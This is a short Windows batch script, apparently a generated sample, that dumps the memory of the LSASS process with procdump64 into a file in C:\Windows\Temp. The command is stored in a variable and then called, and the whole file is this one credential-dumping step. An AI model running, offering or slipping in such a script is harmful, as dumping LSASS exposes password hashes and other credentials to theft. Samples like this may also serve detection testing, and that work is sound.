REM run 5534 v0
@echo off
set hbwa=procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
call %hbwa%
